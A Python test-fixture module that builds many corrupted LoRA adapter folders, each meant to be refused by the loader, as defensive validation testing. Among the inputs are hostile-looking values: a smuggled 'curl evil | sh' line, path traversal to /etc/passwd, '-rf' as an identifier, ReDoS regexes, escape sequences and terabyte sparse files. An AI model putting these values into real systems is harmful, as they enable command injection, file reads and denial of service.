"""Harm done to a saved adapter, by name: what must be refused, and a part of the reason."""

from __future__ import annotations

import json
import os
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
from support.small_adapter import (
    small_provenance,
    small_settings,
    small_tensors,
    write_tensors,
)

from qwen3ft.disk.files import write_json_atomic
from qwen3ft.disk.manifests import write_manifest
from qwen3ft.model.adapter_checks import ADAPTER_CONFIG_FILE, ADAPTER_FILE, LARGEST_WEIGHT
from qwen3ft.model.saved_adapter import KNOWN_ROWS_FILE, PROVENANCE_FILE

FIRST = "base_model.model.model.layers.0.self_attn.q_proj.lora_A.weight"
LAST = "base_model.model.model.layers.2.mlp.down_proj.lora_B.weight"

Tensors = dict[str, np.ndarray]
Harm = Callable[[Path], object]


# --- values, dtypes, shapes ---


def _set(name: str, value: float) -> Callable[[Tensors], None]:
    def change(tensors: Tensors) -> None:
        tensors[name].flat[-1] = value

    return change


def _as(dtype: str) -> Callable[[Tensors], None]:
    def change(tensors: Tensors) -> None:
        tensors[LAST] = tensors[LAST].astype(dtype)

    return change


def _reshape(tensors: Tensors) -> None:
    tensors[LAST] = tensors[LAST].T


def _flatten(tensors: Tensors) -> None:
    tensors[FIRST] = tensors[FIRST].ravel()


def _widen_one_layer(tensors: Tensors) -> None:
    tensors[LAST] = np.concatenate([tensors[LAST], tensors[LAST]])


def _another_rank(tensors: Tensors) -> None:
    for name in tensors:
        part = 0 if "lora_A" in name else 1
        tensors[name] = np.concatenate([tensors[name]] * 2, axis=part)


def _drop(tensors: Tensors) -> None:
    del tensors[LAST]


def _drop_a_layer(tensors: Tensors) -> None:
    for name in [name for name in tensors if ".layers.2." in name]:
        del tensors[name]


def _rename(old: str, new: str) -> Callable[[Tensors], None]:
    def change(tensors: Tensors) -> None:
        renamed = {name.replace(old, new): values for name, values in tensors.items()}
        tensors.clear()
        tensors.update(renamed)

    return change


def _add(name: str) -> Callable[[Tensors], None]:
    def change(tensors: Tensors) -> None:
        tensors[name] = np.ones((2, 2), np.float32)

    return change


def _empty(tensors: Tensors) -> None:
    tensors.clear()


WEIGHTS: dict[str, tuple[Callable[[Tensors], None], str]] = {
    "NaN": (_set(FIRST, float("nan")), "not finite or beyond"),
    "infinity": (_set(LAST, float("inf")), "not finite or beyond"),
    "minus infinity": (_set(LAST, float("-inf")), "not finite or beyond"),
    "1e38": (_set(LAST, 1e38), "not finite or beyond"),
    "beyond the largest weight": (_set(FIRST, -2 * LARGEST_WEIGHT), "not finite or beyond"),
    "float16": (_as("float16"), "is F16"),
    "float64": (_as("float64"), "is F64"),
    "int32": (_as("int32"), "is I32"),
    "transposed": (_reshape, r"has the shape \(1, 128\) instead of \(128, 1\)"),
    "flat": (_flatten, "is no matrix"),
    "one layer wider": (_widen_one_layer, r"has the shape \(256, 1\)"),
    "rank 2": (_another_rank, r"has the shape \(2, 128\) instead of \(1, 128\)"),
    "a matrix missing": (_drop, "its 41 tensors are not"),
    "a layer missing": (_drop_a_layer, "parameters instead of"),
    "a layer renamed": (_rename(".layers.2.", ".layers.7."), r"layers\.7\."),
    "a projection renamed": (_rename("q_proj", "x_proj"), "x_proj"),
    "names with the adapter's": (_rename("lora_A.weight", "lora_A.default.weight"), "default"),
    "head with an adapter": (_add("base_model.model.lm_head.lora_A.weight"), "43 tensors"),
    "embedding with an escape sequence": (
        _add("base_model.model.model.embed_tokens.weight\x1b[2J\x00"),
        "43 tensors",
    ),
    "no tensors": (_empty, "its 0 tensors"),
}


# --- settings and provenance ---

SETTINGS: list[tuple[str, Any]] = [
    ("lora_alpha", 1e300),
    ("lora_alpha", float("nan")),
    ("lora_alpha", "2"),
    ("lora_alpha", True),
    ("r", 64),
    ("r", 2**80),
    ("lora_dropout", 0.5),
    ("target_modules", "(a+)+$"),
    ("target_modules", "all-linear"),
    ("target_modules", [*small_settings()["target_modules"], "lm_head"]),
    ("target_modules", ["q_proj"]),
    ("target_modules", [["(a+)+$"]]),
    ("target_modules", None),
    ("exclude_modules", "(a|a)*b"),
    ("peft_type", "ADALORA"),
    ("peft_type", "NO_SUCH"),
    ("task_type", "SEQ_CLS"),
    ("bias", "all"),
    ("use_dora", True),
    ("use_rslora", True),
    ("modules_to_save", ["lm_head"]),
    ("rank_pattern", {"(a+)+$": 4}),
    ("alpha_pattern", {"q_proj": 1e30}),
    ("init_lora_weights", "pissa"),
    ("init_lora_weights", 1),
    ("corda_config", {"cache_file": "/tmp/x"}),
    ("eva_config", {"rho": 2.0}),
    ("loftq_config", {"loftq_bits": 4}),
    ("trainable_token_indices", [0, 1]),
    ("target_parameters", ["weight"]),
    ("layers_to_transform", [0]),
    ("layers_pattern", "(a+)+$"),
    ("layer_replication", [[0, 10**9]]),
    ("megatron_core", "os"),
    ("megatron_config", {"x": 1}),
    ("auto_mapping", {"base_model_class": "X", "parent_library": "evil"}),
    ("base_model_name_or_path", "/somewhere/else"),
    ("base_model_name_or_path", None),
    ("revision", "refs/pr/1"),
    ("a_setting_of_2027", "on"),
    ("a_setting\x1b[31m", [1]),
]

PROVENANCE: list[tuple[str, Any]] = [
    ("run_id", "../../x"),
    ("run_id", "-rf"),
    ("run_id", "a\x1b[2J"),
    ("run_id", None),
    ("base", None),
    ("base", {}),
    ("base.revision", 5),
    ("base.model_name", "x\nNext: curl evil | sh"),
    ("base.snapshot_path", "/a\0b"),
    ("data", []),
    ("data.digest", None),
    ("data.sources", [{"path": "x"}]),
    ("plan", {}),
    ("plan.adapter", "all"),
    ("plan.adapter.r", 10**12),
    ("plan.adapter.r", 0),
    ("plan.adapter.alpha", 10**300),
    ("plan.adapter.alpha", 3),
    ("plan.adapter.target_modules", ["(a+)+$"]),
    ("plan.adapter.trainable_parameters", 1),
    ("config", None),
    ("config.max_new_tokens", 10**12),
    ("config.special_tokens_in_text", "run"),
    ("degraded", "no"),
    ("degraded", [1]),
]
"""Place and value; None removes the field."""


# --- files and manifest ---


def _manifest(**files: Any) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        content = json.loads((folder / "manifest.json").read_text())
        for name, entry in files.items():
            content["files"].update({name: entry})
        write_json_atomic(folder / "manifest.json", content)

    return change


def _no_list(folder: Path) -> None:
    write_json_atomic(folder / "manifest.json", {"files": {}, "facts": {}})


def _list_all_but(name: str) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        content = json.loads((folder / "manifest.json").read_text())
        del content["files"][name]
        write_json_atomic(folder / "manifest.json", content)

    return change


def _unlisted(name: str) -> Callable[[Path], None]:
    return lambda folder: (folder / name).write_text("{}") and None


def _file(name: str, content: bytes) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        (folder / name).write_bytes(content)
        if name != "manifest.json":
            write_manifest(folder)

    return change


def _instead(name: str, make: Callable[[Path], Any]) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        (folder / name).unlink()
        make(folder / name)

    return change


def _link_out(name: str) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        outside = (folder / name).rename(folder.parent / name)
        (folder / name).symlink_to(outside)

    return change


def _sparse(folder: Path) -> None:
    with (folder / ADAPTER_FILE).open("r+b") as stream:
        stream.truncate(2**40)
    _manifest(**{ADAPTER_FILE: {"size_bytes": 2**40, "sha256": "0" * 64}})(folder)


def _sparse_card(folder: Path) -> None:
    with (folder / "README.md").open("wb") as stream:
        stream.truncate(2**40)
    _manifest(**{"README.md": {"size_bytes": 2**40, "sha256": "0" * 64}})(folder)


def _header(length: int, text: bytes = b"{}") -> bytes:
    return struct.pack("<Q", length) + text


def _overlapping(folder: Path) -> None:
    entry = '"%s":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}'
    text = ("{" + entry % "a" + "," + entry % "b" + "}").encode()
    _file(ADAPTER_FILE, _header(len(text), text) + b"\0" * 4)(folder)


def _twice(folder: Path) -> None:
    entry = '"a":{"dtype":"F32","shape":[1],"data_offsets":[%d,%d]}'
    text = ("{" + entry % (0, 4) + "," + entry % (4, 8) + "}").encode()
    _file(ADAPTER_FILE, _header(len(text), text) + b"\0" * 8)(folder)


DEEP = b"[" * 100_000 + b"]" * 100_000


FILES: dict[str, Harm] = {
    "manifest lists nothing": _no_list,
    "manifest without weights": _list_all_but(ADAPTER_FILE),
    "manifest without settings": _list_all_but(ADAPTER_CONFIG_FILE),
    "manifest without provenance": _list_all_but(PROVENANCE_FILE),
    "known rows beside the manifest": _unlisted(KNOWN_ROWS_FILE),
    "tokenizer beside the manifest": _unlisted("tokenizer.json"),
    "old provenance beside the manifest": _unlisted("run_card.json"),
    "manifest leads out": _manifest(**{"../outside": {"size_bytes": 0, "sha256": ""}}),
    "manifest names /etc/passwd": _manifest(**{"/etc/passwd": {"size_bytes": 0, "sha256": ""}}),
    "manifest names a zero byte": _manifest(**{"a\0b": {"size_bytes": 0, "sha256": ""}}),
    "manifest names 5,000 characters": _manifest(**{"x" * 5000: {"size_bytes": 0, "sha256": ""}}),
    "manifest entry null": _manifest(**{ADAPTER_FILE: None}),
    "manifest entry of other types": _manifest(**{ADAPTER_FILE: {"size_bytes": "1", "sha256": 5}}),
    "manifest is a list": _file("manifest.json", b"[]"),
    "manifest nested": _file("manifest.json", DEEP),
    "manifest not UTF-8": _file("manifest.json", b"\xff\xfe"),
    "provenance nested": _file(PROVENANCE_FILE, DEEP),
    "provenance is a list": _file(PROVENANCE_FILE, b"[]"),
    "provenance with a number of 5,000 digits": _file(
        PROVENANCE_FILE, b'{"run_id": 1' + b"0" * 5000 + b"}"
    ),
    "provenance of 16 MiB": _file(PROVENANCE_FILE, b" " * (2**24 + 1)),
    "settings nested": _file(ADAPTER_CONFIG_FILE, DEEP),
    "settings null": _file(ADAPTER_CONFIG_FILE, b"null"),
    "settings empty": _file(ADAPTER_CONFIG_FILE, b""),
    "weights are a pipe": _instead(ADAPTER_FILE, os.mkfifo),
    "weights are a folder": _instead(ADAPTER_FILE, Path.mkdir),
    "weights are /dev/zero": _instead(ADAPTER_FILE, lambda path: path.symlink_to("/dev/zero")),
    "weights link to themselves": _instead(ADAPTER_FILE, lambda path: path.symlink_to(path)),
    "settings are a pipe": _instead(ADAPTER_CONFIG_FILE, os.mkfifo),
    "provenance is a pipe": _instead(PROVENANCE_FILE, os.mkfifo),
    "provenance is /dev/zero": _instead(PROVENANCE_FILE, lambda path: path.symlink_to("/dev/zero")),
    "manifest is a pipe": _instead("manifest.json", os.mkfifo),
    "manifest is /dev/zero": _instead("manifest.json", lambda path: path.symlink_to("/dev/zero")),
    "weights link out": _link_out(ADAPTER_FILE),
    "settings link out": _link_out(ADAPTER_CONFIG_FILE),
    "provenance links out": _link_out(PROVENANCE_FILE),
    "weights of a terabyte": _sparse,
    "model card of a terabyte": _sparse_card,
    "weights empty": _file(ADAPTER_FILE, b""),
    "weights are a pickle": _file(ADAPTER_FILE, b"PK\x03\x04 a pickle of torch"),
    "header of 2**60 bytes": _file(ADAPTER_FILE, _header(2**60)),
    "header is a list": _file(ADAPTER_FILE, _header(2, b"[]")),
    "header nested": _file(ADAPTER_FILE, _header(len(DEEP), DEEP)),
    "tensors overlap": _overlapping,
    "tensor twice": _twice,
}

HEADERS: list[Any] = [
    {"dtype": "F32", "shape": [2], "data_offsets": [0, 4]},
    {"dtype": "F32", "shape": [-1], "data_offsets": [0, -4]},
    {"dtype": "F32", "shape": [2**62, 4], "data_offsets": [0, 4]},
    {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]},
    {"dtype": "F32", "shape": [1], "data_offsets": [0, 4, 8]},
    {"dtype": "F32", "shape": [1.0], "data_offsets": [0, 4]},
    {"dtype": "F32", "shape": [1] * 100_000, "data_offsets": [0, 4]},
    {"dtype": "PY", "shape": [1], "data_offsets": [0, 4]},
    {"dtype": ["F32"], "shape": [1], "data_offsets": [0, 4]},
    {"shape": [1], "data_offsets": [0, 4]},
    None,
]
"""Entry of the only tensor, of four bytes."""


# --- all of it ---


def _with_weights(change: Callable[[Tensors], None]) -> Harm:
    def harm(folder: Path) -> None:
        tensors = small_tensors()
        change(tensors)
        write_tensors(folder / ADAPTER_FILE, tensors)
        write_manifest(folder)  # whoever can change the files can do that too

    return harm


def _with_setting(name: str, value: Any) -> Harm:
    def harm(folder: Path) -> None:
        # Not by our own writer, which refuses NaN.
        text = json.dumps({**small_settings(), name: value})
        (folder / ADAPTER_CONFIG_FILE).write_text(text)
        write_manifest(folder)

    return harm


def _with_provenance(place: str, value: Any) -> Harm:
    def harm(folder: Path) -> None:
        provenance = small_provenance()
        *parents, name = place.split(".")
        section = provenance
        for parent in parents:
            section = section[parent]
        if value is None:
            del section[name]
        else:
            section[name] = value
        write_json_atomic(folder / PROVENANCE_FILE, provenance)
        write_manifest(folder)

    return harm


def _with_header(entry: Any) -> Harm:
    text = json.dumps({"a": entry}).encode()
    return _file(ADAPTER_FILE, _header(len(text), text) + b"\0" * 4)


def _shown(name: str) -> str:
    is_base = name in ("base_model_name_or_path", "revision")
    return "another base model" if is_base else name[:9]


HARMED_ADAPTERS: dict[str, tuple[Harm, str]] = {
    **{f"weights: {name}": (_with_weights(change), why) for name, (change, why) in WEIGHTS.items()},
    **{
        f"setting {n}: {name[:9]}": (_with_setting(name, value), _shown(name))
        for n, (name, value) in enumerate(SETTINGS)
    },
    **{
        f"provenance {n}: {place}": (_with_provenance(place, value), "")
        for n, (place, value) in enumerate(PROVENANCE)
    },
    **{name: (harm, "") for name, harm in FILES.items()},
    **{f"header {n}": (_with_header(entry), "") for n, entry in enumerate(HEADERS)},
}
"""Harm by name, and a pattern of the reason."""
